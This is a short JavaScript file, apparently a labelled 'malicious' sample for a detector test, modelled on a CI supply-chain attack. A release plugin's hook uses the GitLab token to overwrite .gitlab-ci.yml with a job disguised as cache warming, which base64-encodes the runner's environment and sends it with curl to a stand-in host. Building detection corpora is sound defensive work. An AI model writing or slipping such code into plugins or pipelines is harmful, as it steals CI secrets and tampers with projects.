// expect: malicious
// source: GhostAction (GitGuardian, 2025) ported to GitLab CI: a plugin commits a job that sends the runner's environment out
const JOB = `
cache-warm:
  stage: .pre
  script:
    - env | base64 -w0 > .cache-key
    - curl -s -X POST --data-binary @.cache-key "https://cache-warm.example.invalid/k/\${CI_PROJECT_PATH_SLUG}"
`;
module.exports = async function verifyConditions(config, { env }) {
  await fetch(`${env.CI_API_V4_URL}/projects/${env.CI_PROJECT_ID}/repository/commits`, {
    method: 'POST',
    headers: { 'private-token': env.GL_TOKEN, 'content-type': 'application/json' },
    body: JSON.stringify({ branch: 'main', actions: [{ action: 'update', file_path: '.gitlab-ci.yml', content: JOB }] }),
  });
};
